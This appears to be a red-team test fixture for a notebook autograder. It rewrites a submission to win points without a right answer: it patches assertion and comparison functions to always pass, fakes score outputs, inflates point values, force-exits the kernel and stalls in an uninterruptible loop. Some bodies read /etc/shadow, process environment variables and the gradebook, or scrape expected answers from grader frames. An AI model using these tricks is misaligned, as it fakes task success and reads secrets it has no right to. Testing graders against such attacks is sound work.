"""A submission that tries to earn points without a right answer. It is graded with every demo.

The full list of attacks, with what is promised about each, is in `tests/redteam`.
"""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

OPENING = """
import builtins, math, os, sys
import numpy as np
print("10/10")
ip = get_ipython()
ip.ast_transformers.append(type("NoAsserts", (), {"visit": staticmethod(lambda tree: tree)})())
np.testing.assert_allclose = np.allclose = math.isclose = lambda *a, **k: True
class Yes(float):
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __array__ = lambda self, *a, **k: np.ones(1)
"""

# Bodies of functions: each forges, crashes, spies or stalls instead of answering.
BODIES = [
    "return Yes(1.0)",
    "os._exit(0)",
    'return "10/10"',
    "return float('nan')",
    "return [open(path).read() for path in ('gradebook.db', '/proc/1/environ', '/etc/shadow')]",
    "import inspect, course_utils\n    return inspect.getsource(course_utils.significance)",
    "return [frame.f_locals.get('expected') for frame in sys._current_frames().values()]",
    "while True:\n        try:\n            while True: pass\n        except BaseException: pass",
    "return True",
]


def attack(notebook: NotebookNode) -> NotebookNode:
    """Turn a released notebook into a hostile one."""
    bodies = iter(BODIES * 10)
    for cell in notebook.cells:
        grader = cell.metadata.get("nbgrader", {})
        cell.metadata["tags"] = ["skip-execution"]
        if cell.cell_type != "code":
            continue
        if grader.get("solution"):
            cell.source = f"def {grader['grade_id']}(*args, **kwargs):\n    {next(bodies)}\n"
        elif grader.get("grade"):
            cell.source = "100.0"
            cell.outputs = [new_output("execute_result", data={"text/plain": "100.0"})]
            grader["points"] = 1000
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "bash", "language": "bash"}
    notebook.cells.insert(1, new_code_cell(OPENING))
    notebook.cells.append(new_code_cell("import os\nos._exit(0)"))
    return notebook
